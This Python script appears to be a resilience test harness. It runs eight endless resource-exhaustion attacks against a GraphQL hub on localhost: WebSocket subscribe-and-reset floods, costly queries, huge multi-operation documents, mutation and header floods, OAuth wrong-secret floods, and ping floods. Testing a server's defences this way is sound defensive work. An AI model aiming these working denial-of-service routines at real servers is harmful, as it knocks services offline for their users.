"""Attack a hub from 127.0.0.1 as fast as it lets one client: `attacks.py ATTACK PORT`, for ever.

The attacks are those by which one anonymous client once stopped a hub for all others.
"""

import asyncio
import json
import os
import socket
import struct
import sys
from base64 import b64encode
from collections.abc import Awaitable, Callable
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from typing import Final
from urllib.parse import urlencode

RUN_BY = "fairness"


async def request(
    port: int,
    body: bytes,
    *,
    path: str = "/graphql",
    source: str = "127.0.0.1",
    media: str = "application/json",
    headers: str = "",
) -> tuple[int, bytes]:
    """Send one POST from an address; return the status, 0 without one, and head and body."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
    except OSError:
        return 0, b""
    try:
        head = (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: {media}\r\n"
            f"Origin: http://127.0.0.1:{port}\r\nSec-Fetch-Site: same-origin\r\n"
            f"Content-Length: {len(body)}\r\nConnection: close\r\n{headers}\r\n"
        )
        writer.write(head.encode() + body)
        answer = await reader.read()
    except OSError:
        return 0, b""
    finally:
        writer.close()
    return int(answer.split(b" ", 2)[1]) if answer else 0, answer


async def repeat(
    work: Callable[[], Awaitable[int]], connections: int, *, pause: float = 0.02
) -> None:
    """Do work over several connections for ever; pause after what the hub did not accept."""

    async def _loop() -> None:
        while True:
            if await work() != 200:
                await asyncio.sleep(pause)

    await asyncio.gather(*(_loop() for _ in range(connections)))


async def open_socket(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """Open a WebSocket of the GraphQL protocol."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    key = b64encode(os.urandom(16)).decode()
    head = (
        f"GET /graphql HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n"
    )
    writer.write(head.encode())
    await reader.readuntil(b"\r\n\r\n")
    return reader, writer


def frame(**message: object) -> bytes:
    """Return a message as a masked frame of a WebSocket."""
    text = json.dumps(message).encode()
    size = bytes([0x80 | len(text)]) if len(text) < 126 else b"\xfe" + struct.pack(">H", len(text))
    return b"\x81" + size + bytes(4) + text


async def attack_followers(port: int) -> None:
    """Follow and vanish while events are sent."""

    async def _follow() -> int:
        try:
            reader, writer = await open_socket(port)
        except (OSError, asyncio.IncompleteReadError):
            return 0
        query = 'subscription { sourceEvents(after: "WzBd") { cursor at } }'
        with suppress(OSError, TimeoutError):
            writer.write(frame(type="connection_init"))
            writer.write(frame(id="1", type="subscribe", payload={"query": query}))
            async with asyncio.timeout(2):
                await reader.read(200)
                await reader.read(200)
        linger = struct.pack("ii", 1, 0)
        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
        writer.transport.abort()
        return 200

    await repeat(_follow, 6)


async def attack_expensive(port: int) -> None:
    """Send the query that costs the database most."""
    at = (datetime.now(UTC) - timedelta(seconds=5)).strftime("%Y-%m-%dT%H:%M:%SZ")
    query = f'{{projects(asOf:{{instant:"{at}"}} filter:{{linked:true}} first:1){{totalCount}}}}'
    await attack_with(port, lambda: query, 12)


async def attack_operations(port: int) -> None:
    """Send documents of 900 operations."""
    document = " ".join(f"query Q{number}{{__typename}}" for number in range(900))
    await attack_with(port, lambda: document, 6)


async def attack_documents(port: int) -> None:
    """Send long documents that were never seen before, and are rejected after they were parsed."""
    count = iter(range(sys.maxsize))

    def _write() -> str:
        number = next(count)
        fields = " ".join(f"a{number}_{index}:__typename" for index in range(190))
        return "{" + fields + " ...{__typename}" * 400 + "}"

    await attack_with(port, _write, 6)


async def attack_with(port: int, write: Callable[[], str], connections: int) -> None:
    """Send documents over several connections."""

    async def _send() -> int:
        return (await request(port, json.dumps({"query": write()}).encode()))[0]

    await repeat(_send, connections)


async def attack_mutations(port: int) -> None:
    """Send mutations that change nothing, each with a name and a purpose of their own."""
    count = iter(range(sys.maxsize))

    async def _send() -> int:
        number = next(count)
        body = json.dumps({"query": f"mutation M{number}{'M' * 150}{{__typename}}"}).encode()
        purpose = f"X-Purpose: {number}{'p' * 150}\r\n"
        return (await request(port, body, headers=purpose))[0]

    await repeat(_send, 6)


async def attack_secrets(port: int) -> None:
    """Ask for tokens with wrong secrets of clients that do not exist."""
    count = iter(range(sys.maxsize))

    async def _send() -> int:
        form = {"grant_type": "client_credentials", "client_id": f"c{next(count)}"}
        body = urlencode({**form, "client_secret": "wrong"}).encode()
        media = "application/x-www-form-urlencoded"
        return (await request(port, body, path="/oauth/token", media=media))[0]

    await repeat(_send, 6)


async def attack_heads(port: int) -> None:
    """Send heads of requests without an end."""
    headers = b"".join(b"A%d: y\r\n" % number for number in range(9_000))

    async def _send() -> int:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + headers)
            await reader.read()
            writer.close()
        return 0

    await repeat(_send, 6)


async def attack_pings(port: int) -> None:
    """Send pings of the GraphQL protocol over sockets, and open others when they are closed."""
    pings = frame(type="ping") * 2_000

    async def _send() -> int:
        with suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await open_socket(port)
            writer.write(pings)
            await reader.read()
            writer.close()
        return 0

    await repeat(_send, 2)


async def rest(_: int) -> None:
    """Do nothing."""
    await asyncio.Event().wait()


ATTACKS: Final = {
    "rest": rest,
    "followers": attack_followers,
    "expensive": attack_expensive,
    "operations": attack_operations,
    "documents": attack_documents,
    "mutations": attack_mutations,
    "secrets": attack_secrets,
    "heads": attack_heads,
    "pings": attack_pings,
}

if __name__ == "__main__":
    asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2])))
